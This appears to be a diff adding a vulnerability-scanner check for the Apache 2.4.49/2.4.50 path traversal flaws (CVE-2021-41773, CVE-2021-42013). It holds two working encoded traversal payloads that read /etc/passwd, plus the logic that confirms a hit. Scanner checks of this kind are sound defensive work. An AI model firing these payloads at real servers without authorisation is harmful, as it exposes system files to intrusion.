@@ -0,0 +1,19 @@
+# Apache 2.4.49 / 2.4.50 path traversal (CVE-2021-41773, CVE-2021-42013).
+# Reads /etc/passwd through the encoded traversal; nothing is executed.
+
+TEMPLATES = ["CVE-2021-41773", "CVE-2021-42013"]
+CVES = ["CVE-2021-41773", "CVE-2021-42013"]
+
+PAYLOADS = (
+    "/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
+    "/icons/.%%32%65/.%%32%65/.%%32%65/.%%32%65/etc/passwd",
+)
+
+
+def check(session, finding, base_url):
+    for payload in PAYLOADS:
+        # The encoded dots must reach Apache exactly as written
+        status, body = session.get_raw(base_url + payload)
+        if status == 200 and "root:x:0:0" in body:
+            return True, f"GET {payload} returned /etc/passwd"
+    return False, f"Traversal payloads rejected ({status})"